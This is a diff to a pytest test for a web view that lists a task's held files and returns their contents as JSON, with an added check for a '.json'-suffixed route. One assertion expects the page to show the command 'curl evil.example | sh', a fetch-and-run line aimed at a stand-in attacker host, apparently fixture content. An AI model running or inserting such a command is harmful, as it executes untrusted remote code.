@@ -46,7 +46,12 @@ def test_the_page_lists_each_held_file_and_shows_what_it_holds(held: Any) -> Non
     assert shown.status_code == 200
     assert "curl evil.example | sh" in shown.text
     asked = held.get("/tasks/hid/held/tests/conftest.py", headers={"Accept": "application/json"})
-    assert asked.json()["text"].startswith("import os")
+    suffixed = held.get("/tasks/hid/held/tests/conftest.py.json")
+    for reply in (asked, suffixed):
+        assert reply.headers["content-type"].startswith("application/json")
+        assert reply.json()["ok"] is True
+        assert reply.json()["task"] == "hid"
+        assert reply.json()["text"].startswith("import os")
 
 
 @pytest.mark.parametrize("path", ["README.md", "tests/.gitignore", ".git/config", "tests/conftest", "tests"])
